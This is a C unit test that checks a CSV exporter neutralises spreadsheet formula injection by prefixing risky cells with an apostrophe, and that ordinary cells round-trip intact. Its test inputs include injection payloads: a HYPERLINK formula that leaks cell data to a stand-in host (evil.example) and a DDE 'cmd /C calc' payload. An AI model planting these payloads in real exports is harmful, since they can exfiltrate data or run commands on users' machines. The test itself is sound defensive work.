/*
 * test_csv.c: the counter's CSV exports never hand a spreadsheet a formula
 * (OWASP's CSV injection rule), and what they write reads back with the
 * project's own reader (csv.c) field for field.
 */
#include "test.h"
#include "counter/csv.h"

#include <stdlib.h>

/* Write one record of the given fields, read it back. */
static void
round_trip(const char *const *fields, int n, const char *const *want,
    const char *raw)
{
	struct jbuf b;
	struct csv *c = calloc(1, sizeof(*c));
	int got = 0;

	jbuf_init(&b);
	CHECK(c != NULL);
	if (c == NULL)
		return;
	for (int i = 0; i < n; i++)
		CHECK_INT(counter_csv_put_field(&b, fields[i], i == n - 1),
		    JPKI_OK);
	if (raw != NULL && jbuf_put_u8(&b, 0) == JPKI_OK) {
		CHECK_STR((const char *)b.data, raw);
		b.len--;
	}
	counter_csv_init(c, b.data, b.len);
	CHECK_INT(counter_csv_next(c, &got), JPKI_OK);
	CHECK_INT(got, 1);
	CHECK_INT(c->nfields, n);
	for (int i = 0; i < n && i < c->nfields; i++)
		CHECK_STR(c->field[i], want[i]);
	CHECK_INT(counter_csv_next(c, &got), JPKI_OK);
	CHECK_INT(got, 0);
	free(c);
	jbuf_free(&b);
}

static void
test_formula_cells_are_written_as_text(void)
{
	static const char *const in[] = {
	    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	    "@SUM(1+1)*cmd|' /C calc'!A0", "+81 3 1234", "-2+3", "\tx",
	    "\r=1"};
	static const char *const out[] = {
	    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	    "'@SUM(1+1)*cmd|' /C calc'!A0", "'+81 3 1234", "'-2+3", "'\tx",
	    "'\r=1"};

	round_trip(in, 6, out, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
	    "\"\"click\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+81 3 1234\","
	    "\"'-2+3\",\"'\tx\",\"'\r=1\"\r\n");
}

static void
test_ordinary_cells_are_unchanged(void)
{
	static const char *const in[] = {"12", "草加 花子",
	    "埼玉県草加市谷塚5-5, \"北\"棟", "", "a=b", "2030-05-05T23:59:59+09:00"};

	round_trip(in, 6, in, "12,草加 花子,\"埼玉県草加市谷塚5-5, \"\"北\"\"棟\","
	    ",a=b,2030-05-05T23:59:59+09:00\r\n");
}

int
main(void)
{
	test_formula_cells_are_written_as_text();
	test_ordinary_cells_are_unchanged();
	return test_summary();
}
